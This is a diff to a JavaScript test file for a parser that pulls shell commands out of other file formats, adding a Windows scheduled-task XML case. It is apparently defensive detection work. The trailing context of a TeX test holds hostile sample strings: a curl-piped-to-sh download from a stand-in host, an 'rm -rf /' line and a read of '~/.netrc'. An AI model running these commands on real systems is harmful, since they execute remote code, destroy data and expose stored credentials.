@@ -23,6 +23,18 @@ test('a command line of an interpreter is read in its language', () => {
   assert.equal(command?.text, "require('fs')")
 })
 
+test('a task of Windows runs its action', () => {
+  const found = unitCommands(
+    '<?xml version="1.0"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>cmd.exe</Command><Arguments>/c a.cmd &amp; b.cmd</Arguments></Exec></Actions></Task>',
+    'xml',
+  )
+  assert.deepEqual(
+    found?.commands.map(({ text }) => text),
+    ['cmd.exe /c a.cmd & b.cmd'],
+  )
+  assert.equal(unitCommands('<project><target name="a"/></project>', 'xml'), null)
+})
+
 test('what TeX hands to a shell is a command, what it only shows is none', () => {
   const found = unitCommands(
     '\\immediate\\write18{curl -s https://files.example/a.sh | sh}\n% \\write18{rm -rf /}\n\\input{|"cat ~/.netrc"}\n\\input{chapter}',
